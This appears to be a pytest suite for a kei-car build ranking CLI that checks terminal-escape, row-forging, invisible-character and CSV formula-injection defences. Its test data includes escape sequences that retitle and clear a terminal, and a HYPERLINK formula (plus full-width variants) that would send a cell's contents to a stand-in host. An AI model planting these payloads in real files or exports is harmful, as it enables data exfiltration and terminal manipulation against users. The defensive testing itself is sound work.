"""Names and file names from other people reach the terminal and spreadsheets as text
(issue 11, finding 4; rank's era from issue 10)."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from pathlib import Path

import pytest

from keiconfig import cli
from keiconfig.core import files
from keiconfig.core.build import changed, default_build

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31m"
FORGED = "Real\n1   forged.kei.json  Forged  1.00  1998  complies"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


def run(capsys, *argv):
    code = cli.main(list(argv))
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return code, out, err


def save(folder: Path, file: str, name: str, **updates) -> Path:
    path = folder / file
    files.save_build(changed(default_build(), {"name": name, **updates}), path)
    return path


def test_escape_sequences_in_a_name_are_shown_not_obeyed(capsys, tmp_path: Path) -> None:
    path = save(tmp_path, "car.kei.json", "Car" + ESCAPES)
    for command in (["evaluate", str(path)], ["rank", str(tmp_path)], ["validate", str(path)]):
        code, out, err = run(capsys, *command)
        assert "\x1b" not in out + err and "\x07" not in out + err, command
    code, out, _ = run(capsys, "evaluate", str(path))
    assert code == 0 and "Car\\x1b]0;pwned\\x07" in out


def test_control_characters_in_a_file_name_are_escaped(capsys, tmp_path: Path) -> None:
    path = save(tmp_path, "bad\x1b[2J.kei.json", "Car")
    code, out, _ = run(capsys, "validate", str(path))
    assert code == 0 and "\x1b" not in out and "bad\\x1b[2J.kei.json: ok" in out
    broken = tmp_path / "cut\x1b[2J.json"
    broken.write_text("{")
    _code, out, _ = run(capsys, "rank", str(tmp_path))
    assert "\x1b" not in out


def test_explore_escapes_what_it_quotes(capsys, tmp_path: Path) -> None:
    """explore's errors quote a file name or an argument: escaped like evaluate's."""
    broken = tmp_path / "cut\x1b[2J.kei.json"
    broken.write_text("{")
    for argv in (
        ["--from", str(broken)],
        ["--front", "x" + ESCAPES],
        ["--range", "body.length_mm=" + ESCAPES],
        ["--vary", "x" + ESCAPES],
        ["--challenge", str(broken)],
    ):
        code, out, err = run(capsys, "explore", *argv)
        assert code == 2 and "\x1b" not in out + err and "\x07" not in out + err, argv
        assert "\\x1b" in err, argv


def test_a_newline_in_a_name_cannot_forge_a_ranking_row(capsys, tmp_path: Path) -> None:
    save(tmp_path, "a.kei.json", FORGED)
    save(tmp_path, "b.kei.json", "Honest")
    code, out, _ = run(capsys, "rank", str(tmp_path))
    assert code == 0
    lines = out.splitlines()
    assert not any(line.lstrip().startswith("1   forged") for line in lines)
    rows = [line for line in lines if line.lstrip()[:1].isdigit()]
    assert len(rows) == 2 and any("Real\\n1   forged" in row for row in rows)


def test_csv_cells_that_look_like_formulas_are_text(capsys, tmp_path: Path) -> None:
    builds = tmp_path / "class"
    builds.mkdir()
    save(builds, "a.kei.json", FORMULA)
    save(builds, "b.kei.json", "+1+1")
    save(builds, "c.kei.json", "-2")
    save(builds, "d.kei.json", "@SUM(A1)")
    save(builds, "e.kei.json", "\tTabbed")
    save(builds, "=f.kei.json", "Fine name")
    out_csv = tmp_path / "table.csv"
    code, _, _ = run(capsys, "rank", str(builds), "--csv", str(out_csv))
    assert code == 0
    table = list(csv.DictReader(io.StringIO(out_csv.read_text())))
    names = {r["name"] for r in table}
    # a tab is written as the terminal shows it (\t), which no spreadsheet runs
    assert names == {"'" + FORMULA, "'+1+1", "'-2", "'@SUM(A1)", "\\tTabbed", "Fine name"}
    assert "'=f.kei.json" in {r["file"] for r in table}
    assert {r["era"] for r in table} == {"1998"}


def test_csv_cells_that_are_formulas_after_spaces_are_text_too(capsys, tmp_path: Path) -> None:
    """A spreadsheet's import may trim a cell's leading spaces (LibreOffice's 'Trim
    spaces') and then run what starts with '=': a name that is a formula after a space,
    a Japanese full-width space or a no-break space gets the ' too (it was written as it
    was); one after a zero-width space or a byte order mark is written with them as
    escapes, as a terminal shows them, and so begins with a backslash, no formula. A
    name with a formula sign later stays as it is."""
    builds = tmp_path / "class"
    builds.mkdir()
    hostile = [" " + FORMULA, "\u3000+1+1", "\u00a0-2", "\u200b@SUM(A1)", "\ufeff=1+1"]
    for i, name in enumerate(hostile):
        save(builds, f"{i}.kei.json", name)
    save(builds, "fine.kei.json", "Kei 660 = fun")
    out_csv = tmp_path / "table.csv"
    code, _, _ = run(capsys, "rank", str(builds), "--csv", str(out_csv))
    assert code == 0
    names = {r["name"] for r in csv.DictReader(io.StringIO(out_csv.read_text()))}
    assert names == {"'" + name for name in hostile[:3]} | {
        "\\u200b@SUM(A1)",
        "\\ufeff=1+1",
        "Kei 660 = fun",
    }


def test_csv_cells_that_are_full_width_formulas_are_text_too(capsys, tmp_path: Path) -> None:
    """Japanese Excel turns a formula typed in full-width ('＝SUM（A1）', as a Japanese
    input method types '=') into a half-width one and runs it: a name beginning with
    ＝ ＋ － ＠ (U+FF1D, U+FF0B, U+FF0D, U+FF20), also after a full-width space, gets the '
    as = + - @ do (it was written as it was). Names with those signs later, or beginning
    with the katakana long vowel mark 'ー', stay as they are; the figures are unchanged."""
    builds = tmp_path / "class"
    builds.mkdir()
    hostile = [
        '＝HYPERLINK("http://example.invalid/?"&A1,"click")',
        "＋1＋1",
        "－2",
        "＠SUM(A1)",
        "\u3000＝1＋1",
    ]
    fine = ["ｶﾌﾟﾁｰﾉ－改", "ーキャロルー", "軽トラ＋α", "ビート＠鈴鹿"]
    for i, name in enumerate(hostile + fine):
        save(builds, f"{i}.kei.json", name, **{"engine.displacement_cc": 560 + 10 * i})
    out_csv = tmp_path / "table.csv"
    code, _, _ = run(capsys, "rank", str(builds), "--csv", str(out_csv))
    assert code == 0
    table = list(csv.DictReader(io.StringIO(out_csv.read_text(encoding="utf-8"))))
    assert {r["name"] for r in table} == {"'" + name for name in hostile} | set(fine)
    code, out, _ = run(capsys, "rank", str(builds), "--json")
    times = {r["file"]: r["zero_to_100kmh_s"] for r in json.loads(out)}
    assert {r["file"]: float(r["zero_to_100kmh_s"]) for r in table} == times


def test_csv_cells_have_no_control_characters(capsys, tmp_path: Path) -> None:
    """Names, file names and errors from the files reach the CSV with their control
    characters escaped as the terminal shows them (a line break, an escape sequence, a bell,
    a right-to-left override would otherwise reach the spreadsheet raw)."""
    builds = tmp_path / "class"
    builds.mkdir()
    save(builds, "a.kei.json", "Car" + ESCAPES)
    save(builds, "b.kei.json", FORGED)
    save(builds, "c\x1b[2J.kei.json", "Bidi\u202etxt.exe")
    (builds / "d\x07.json").write_text("{")
    out_csv = tmp_path / "table.csv"
    code, out, _ = run(capsys, "rank", str(builds), "--csv", str(out_csv))
    assert code == 1  # the broken file
    text = out_csv.read_text(encoding="utf-8")
    table = list(csv.DictReader(io.StringIO(text)))
    assert len(table) == 4  # no row forged by a line break
    cells = [v for row in table for v in row.values()]
    assert all(v.isprintable() for v in cells), [v for v in cells if not v.isprintable()]
    names = {r["name"] for r in table}
    assert "Car\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31m" in names
    assert "Real\\n1   forged.kei.json  Forged  1.00  1998  complies" in names
    assert "Bidi\\u202etxt.exe" in names
    assert {"c\\x1b[2J.kei.json", "d\\x07.json"} <= {r["file"] for r in table}
    error = next(r["error"] for r in table if r["file"] == "d\\x07.json")
    assert error and "\x07" not in error
    # the same escapes as the terminal table shows
    assert "Car\\x1b]0;pwned\\x07" in out and "c\\x1b[2J.kei.json" in out


@pytest.mark.skipif(os.name != "posix", reason="POSIX special files")
def test_rank_csv_refuses_special_files_and_writes_through_links(capsys, tmp_path: Path) -> None:
    builds = tmp_path / "class"
    builds.mkdir()
    save(builds, "a.kei.json", "A")
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    code, _, err = run(capsys, "rank", str(builds), "--csv", str(fifo))
    assert code == 1 and "named pipe" in err
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    null_link = tmp_path / "null.csv"
    null_link.symlink_to(os.devnull)
    code, _, err = run(capsys, "rank", str(builds), "--csv", str(null_link))
    assert code == 1 and "device" in err and null_link.is_symlink()
    assert stat.S_ISCHR(os.stat(os.devnull).st_mode)
    real = tmp_path / "real.csv"
    real.write_text("old\n")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    code, _, _ = run(capsys, "rank", str(builds), "--csv", str(link))
    assert code == 0 and link.is_symlink() and real.read_text().startswith("rank,file")


def test_rank_says_which_rules_judged(capsys, tmp_path: Path) -> None:
    save(tmp_path, "a.kei.json", "Old", year=1960)
    _code, out, _ = run(capsys, "rank", str(tmp_path))
    assert "current kei rules (1998)" in out
    _code, out, _ = run(capsys, "rank", str(tmp_path), "--era", "1955")
    assert "kei rules of 1955" in out and " 1955 " in out.splitlines()[-1] + " "
    _code, out, _ = run(capsys, "rank", str(tmp_path), "--use-year")
    assert "of its year" in out


def test_a_file_name_starting_with_a_dash_opens_after_double_dash(monkeypatch) -> None:
    opened: list[str | None] = []
    monkeypatch.setattr(cli, "run_gui", lambda path: opened.append(path) or 0)
    assert cli.main(["--", "-x.kei.json"]) == 0
    assert opened == ["-x.kei.json"]


@pytest.mark.skipif(os.name != "posix", reason="POSIX special files")
def test_rank_says_what_it_passed_over_and_why(capsys, tmp_path: Path) -> None:
    """A folder and a pipe named *.json are not read (a pipe could wait forever), and rank
    says so, one sentence each, as the window's class folder does; past five, a count."""
    save(tmp_path, "a.kei.json", "Car")
    (tmp_path / "old.json").mkdir()
    os.mkfifo(tmp_path / "pipe\x1b[2J.json")
    code, out, err = run(capsys, "rank", str(tmp_path))
    assert code == 0 and "Car" in out
    lines = err.splitlines()
    assert "keiconfig rank: old.json was not read: it is a folder, not a build file." in lines
    assert any(
        line.startswith("keiconfig rank: pipe\\x1b[2J.json was not read: it is a pipe")
        for line in lines
    ), lines
    for i in range(6):
        (tmp_path / f"more{i}.json").mkdir()
    code, _out, err = run(capsys, "rank", str(tmp_path), "--json")
    assert code == 0
    lines = err.splitlines()
    assert len(lines) == 6 and sum("was not read" in line for line in lines) == 5
    assert lines[-1] == (
        "keiconfig rank: 3 more entries named *.json not read: folders or special files, "
        "not build files."
    )
    (tmp_path / "more0.json").rmdir()
    (tmp_path / "more1.json").rmdir()
    _code, _out, err = run(capsys, "rank", str(tmp_path))
    assert err.splitlines()[-1].endswith(
        "1 more entry named *.json not read: a folder or special file, not a build file."
    )


def test_japanese_spaces_and_joined_emoji_are_shown_as_typed(capsys, tmp_path: Path) -> None:
    """Japanese typing puts a full-width space (U+3000) between words; a name with one, a
    no-break space or an emoji made of joined pieces is printed as it was typed, in the
    terminal table, the ranking and its CSV, while a right-to-left override beside them
    is still escaped."""
    name = "私の\u3000ビート\u00a0👨\u200d👩\u200d👧"
    path = save(tmp_path, "ホンダ\u3000ビート.kei.json", name)
    save(tmp_path, "b.kei.json", "Bidi\u202etxt.exe")
    _code, out, _ = run(capsys, "evaluate", str(path))
    assert f"ホンダ\u3000ビート.kei.json: {name}" in out
    _code, out, _ = run(capsys, "validate", str(path))
    assert "ホンダ\u3000ビート.kei.json: ok" in out
    out_csv = tmp_path / "table.csv"
    _code, out, _ = run(capsys, "rank", str(tmp_path), "--csv", str(out_csv))
    assert name in out and "\\u3000" not in out and "Bidi\\u202etxt.exe" in out
    names = {r["name"] for r in csv.DictReader(io.StringIO(out_csv.read_text("utf-8")))}
    assert names == {name, "Bidi\\u202etxt.exe"}


def test_a_table_counts_joiners_and_combining_marks_as_no_columns() -> None:
    """The tables' columns stay aligned with a name the terminal now gets as typed: a
    joiner or an accent written as a combining mark takes no column of its own."""
    from keiconfig import terminal

    assert terminal.width("e\u0301") == 1
    assert terminal.width("a\u200db") == 2
    assert terminal.width("私の\u3000ビート") == 12
    assert terminal.pad("e\u0301", 3) == "e\u0301  "


@pytest.mark.skipif(os.name != "posix", reason="file names as bytes: POSIX")
def test_json_names_a_file_whose_name_is_not_utf8_so_a_program_can_open_it(
    capsys, tmp_path: Path
) -> None:
    """A build unzipped from a Japanese Windows zip (its name in Shift_JIS bytes): the
    JSON of evaluate and rank names it with JSON's escapes of the bytes, which a program
    reads back as the name the file opens by (they were printed as "?")."""
    name = os.fsdecode("車".encode("shift_jis") + b".kei.json")
    try:
        path = save(tmp_path, name, "Beat")
    except files.BuildSaveError:
        pytest.skip("this file system refuses names that are not UTF-8")
    code, out, _ = run(capsys, "evaluate", "--json", str(path))
    assert code == 0 and "?" not in out
    assert json.loads(out)[0]["file"] == str(path) and Path(json.loads(out)[0]["file"]).exists()
    code, out, _ = run(capsys, "rank", "--json", str(tmp_path))
    assert code == 0 and json.loads(out)[0]["file"] == name


def test_explore_by_a_challenge_shows_its_title_not_obeys_it(capsys, tmp_path: Path) -> None:
    """A teacher's challenge (someone else's file) titled with terminal escapes: explore's
    first line printed the title as it was, setting the terminal's title and colours."""
    from keiconfig.core.resources_path import resource_path

    raw = json.loads(resource_path("example.challenge.json").read_text(encoding="utf-8"))
    raw["title"] = "Quick" + ESCAPES
    raw["vary"] = ["body.length_mm"]
    path = tmp_path / "c.challenge.json"
    path.write_text(json.dumps(raw), encoding="utf-8")
    code, out, err = run(capsys, "explore", "--challenge", str(path), "--budget", "8")
    assert code == 0, err
    assert "\x1b" not in out + err and "\x07" not in out + err
    assert "challenge: Quick\\x1b]0;pwned\\x07" in out


@pytest.mark.parametrize("challenge", [False, True])
def test_rank_csv_keeps_the_file_it_replaces(capsys, tmp_path: Path, challenge) -> None:
    """A teacher's marks.csv, a column of marks added in a spreadsheet since the last
    ranking: rank --csv replaced it in silence, the marks lost. Now its previous version
    is kept as marks.csv.bak and stderr says so; the same CSV again leaves no backup."""
    from keiconfig.core.resources_path import resource_path

    builds = tmp_path / "class"
    builds.mkdir()
    save(builds, "a.kei.json", "A")
    marks = tmp_path / "marks.csv"
    marks.write_text("rank,file,name,mark\n1,a.kei.json,A,excellent\n", encoding="utf-8")
    argv = ["rank", str(builds), "--csv", str(marks)]
    if challenge:
        argv += ["--challenge", str(resource_path("example.challenge.json"))]
    code, _, err = run(capsys, *argv)
    assert code == 0, err
    assert marks.read_text(encoding="utf-8").startswith("rank,file")
    assert "excellent" in (tmp_path / "marks.csv.bak").read_text(encoding="utf-8")
    assert "marks.csv was replaced; its previous version is kept as marks.csv.bak." in err
    code, _, err = run(capsys, *argv)
    assert code == 0 and "replaced" not in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["class", "marks.csv", "marks.csv.bak"]


@pytest.mark.parametrize("challenge", [False, True])
def test_rank_csv_never_replaces_a_build_or_the_challenge(capsys, tmp_path: Path, challenge):
    """'keiconfig rank class --csv class/a.kei.json' (a slip of tab completion) replaced a
    student's build with the CSV: the build dropped out of the class folder, kept only as
    its .bak. The CSV named as a build file, or as the challenge, is refused with a
    sentence; nothing is written."""
    from keiconfig.core.resources_path import resource_path

    builds = tmp_path / "class"
    builds.mkdir()
    build = save(builds, "a.kei.json", "A")
    task = tmp_path / "c.challenge.json"
    task.write_bytes(resource_path("example.challenge.json").read_bytes())
    before = {p: p.read_bytes() for p in (build, task)}
    targets = [(build, "a.kei.json is a keiconfig build file, not a CSV file")]
    if challenge:
        targets.append((task, "c.challenge.json is a class challenge, not a CSV file"))
    for target, sentence in targets:
        argv = ["rank", str(builds), "--csv", str(target)]
        if challenge:
            argv += ["--challenge", str(task)]
        code, _, err = run(capsys, *argv)
        assert code == 1
        assert sentence in err and "name another file (such as ranking.csv)" in err
        assert {p: p.read_bytes() for p in before} == before
        assert sorted(p.name for p in builds.iterdir()) == ["a.kei.json"]


def test_an_unexpected_error_quoting_a_name_is_shown_not_obeyed(capsys, monkeypatch) -> None:
    """The last resort ('keiconfig: error: <what> (<kind>)') printed the error's words as
    they were: an operating system error quoting a file or folder named with escapes
    drove the terminal."""
    from keiconfig.core import presets

    def fails(*args, **kwargs):
        raise OSError(f"cannot read {ESCAPES}folder")

    monkeypatch.setattr(presets, "list_presets", fails)
    code, out, err = run(capsys, "presets")
    assert code == 1 and "\x1b" not in out + err and "\x07" not in out + err
    assert "\\x1b]0;pwned\\x07" in err and "(OSError)" in err


def test_a_name_too_long_for_the_disk_is_a_sentence(capsys, tmp_path: Path, monkeypatch):
    """A folder or --from file named with 300 letters (longer than a disk's 255): rank and
    explore --from ended in the last resort, 'keiconfig: error: [Errno 36] File name too
    long: … (OSError)' (Path.exists raises it). Each says it in its own sentence."""
    monkeypatch.chdir(tmp_path)
    long = "a" * 300
    for argv, words in [
        (["rank", long], f"keiconfig rank: The folder {long} cannot be read (File name too long)"),
        (["explore", "--from", long + ".kei.json", "--workers", "0"],
         f"{long}.kei.json: the file could not be read (File name too long)."),
    ]:  # fmt: skip
        code, out, err = run(capsys, *argv)
        assert code in (1, 2) and out == "", argv
        assert words in err and "Errno" not in err and "OSError" not in err, err


def test_a_name_with_nothing_visible_is_printed_as_escapes(capsys, tmp_path: Path) -> None:
    """A build named with zero-width spaces only: evaluate printed 'blank.kei.json: ' and
    rank an empty name; the name is written as escapes, as a control character is, and so
    is a zero-width space inside a visible name ('a\\u200bb', which read as 'ab')."""
    path = save(tmp_path, "blank.kei.json", "\u200b\u200b")
    save(tmp_path, "joined.kei.json", "a\u200bb")
    _code, out, _ = run(capsys, "evaluate", str(path))
    assert f"{path}: \\u200b\\u200b" in out
    _code, out, _ = run(capsys, "rank", str(tmp_path))
    assert "\\u200b\\u200b" in out and "a\\u200bb" in out and "\u200b" not in out


def test_a_csv_with_names_beyond_ascii_begins_with_a_byte_order_mark(capsys, tmp_path: Path):
    """Excel opened by a double click reads a CSV without UTF-8's byte order mark in
    Windows' old encoding: a class's 'ホンダ ビート' showed as '繝帙Φ繝 繝薙…' on
    Japanese Windows, 'Café Racer' as 'CafÃ© Racer' on Western. Such a table now begins
    with the mark (and reads the same as UTF-8 with it); a table of ASCII alone is written
    as before, byte for byte."""
    builds = tmp_path / "class"
    builds.mkdir()
    names = ["ホンダ ビート", "Café Racer", "ｶﾌﾟﾁｰﾉ"]
    for i, name in enumerate(names):
        save(builds, f"{i}.kei.json", name)
    out_csv = tmp_path / "table.csv"
    code, _, _ = run(capsys, "rank", str(builds), "--csv", str(out_csv))
    assert code == 0
    data = out_csv.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfrank,file,name,")
    table = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert [r["rank"] for r in table] == ["1", "1", "1"]  # the same car three times
    assert {r["name"] for r in table} == set(names)
    for i in range(3):
        save(builds, f"{i}.kei.json", f"Car {i}")
    code, _, _ = run(capsys, "rank", str(builds), "--csv", str(out_csv))
    assert code == 0 and out_csv.read_bytes().startswith(b"rank,file,name,")
    assert out_csv.read_bytes().isascii()


def test_names_with_invisible_characters_cannot_pass_for_others(capsys, tmp_path: Path) -> None:
    """A zero-width space, a byte order mark, a soft hyphen, a word joiner or a joiner
    between Latin letters shows nothing: 'Mark\\u200dII' was printed as 'MarkII', so a
    stranger's file could pass for a classmate's in evaluate and rank. They are printed as
    escapes, as a right-to-left override is; a joiner that is text where it stands (in an
    emoji, in a Persian word) and a flag's tags stay as typed."""
    hidden = {
        "a.kei.json": ("Mark\u200dII\ufeff", "Mark\\u200dII\\ufeff"),
        "b.kei.json": ("Honda\u200b Beat", "Honda\\u200b Beat"),
        "c.kei.json": ("Be\u00adat\u2060", "Be\\xadat\\u2060"),
        "d\u200b.kei.json": ("Copen", "Copen"),
    }
    typed = [
        "🏳️\u200d🌈",
        "می\u200cخواهم",
        "\U0001f3f4\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f",
    ]
    for file, (name, _shown) in hidden.items():
        save(tmp_path, file, name)
    for i, name in enumerate(typed):
        save(tmp_path, f"typed{i}.kei.json", name)
    _code, out, _ = run(capsys, "evaluate", str(tmp_path / "a.kei.json"))
    assert "a.kei.json: Mark\\u200dII\\ufeff" in out
    _code, out, _ = run(capsys, "rank", str(tmp_path))
    for _name, shown in hidden.values():
        assert shown in out
    assert "d\\u200b.kei.json" in out
    assert not any(c in out for c in "\u200b\ufeff\u00ad\u2060")
    assert all(name in out for name in typed)


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="no symbolic links")
def test_a_link_loop_and_a_path_through_a_file_are_said_in_words(capsys, tmp_path: Path) -> None:
    """A build, a challenge or a class folder that is a link leading back to itself was
    'the file could not be read (Too many levels of symbolic links)', a folder that was
    a link loop 'does not exist', and a path through a file (notes.txt/car.kei.json)
    'the file could not be read (Not a directory)': the operating system's English words
    in any language. Each is now a sentence of keiconfig's own; a dangling link is still
    a file that does not exist."""
    os.symlink(tmp_path / "b.kei.json", tmp_path / "a.kei.json")
    os.symlink(tmp_path / "a.kei.json", tmp_path / "b.kei.json")
    os.symlink(tmp_path / "gone.kei.json", tmp_path / "dangling.kei.json")
    (tmp_path / "notes.txt").write_text("x")
    loop, through, dangling = (
        str(tmp_path / f) for f in ("a.kei.json", "notes.txt/car.kei.json", "dangling.kei.json")
    )
    code, out, err = run(capsys, "validate", loop, through, dangling)
    said = out + err
    assert code == 1
    assert f"{loop}: this is a link that leads back to itself, so there is no file" in said
    assert f"{through}: the file does not exist (a folder in its path is a file" in said
    assert f"{dangling}: the file does not exist." in said
    assert "symbolic" not in said and "directory" not in said, said
    code, out, err = run(capsys, "explore", "--challenge", loop)
    assert code != 0 and f"{loop}: this is a link that leads back to itself" in err, err
    code, out, err = run(capsys, "explore", "--challenge", str(tmp_path / "notes.txt/x.json"))
    assert code != 0 and "a folder in its path is a file, not a folder" in err, err
    code, out, err = run(capsys, "rank", loop)
    assert code != 0 and f"{loop} is a link that leads back to itself, not a folder." in err
    code, out, err = run(capsys, "rank", str(tmp_path / "gone"))
    assert code != 0 and "does not exist" in err


@pytest.mark.parametrize("name", ["-", "", " "])
def test_rank_csv_without_a_file_name_is_refused_and_writes_nothing(
    capsys, tmp_path: Path, monkeypatch, name
) -> None:
    """keiconfig rank FOLDER --csv - wrote a file named '-' in the current folder without
    a word (a program's '-' is its standard output), and --csv "" wrote nothing, also
    silently. Both are refused before anything is ranked, saying what to give."""
    save(tmp_path, "a.kei.json", "Beat")
    monkeypatch.chdir(tmp_path)
    for challenge in ([], ["--challenge", "x.challenge.json"]):
        code, out, err = run(capsys, "rank", str(tmp_path), "--csv", name, *challenge)
        assert code == 2 and out == ""
        assert "give the CSV file a name, e.g. --csv table.csv" in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.kei.json"]
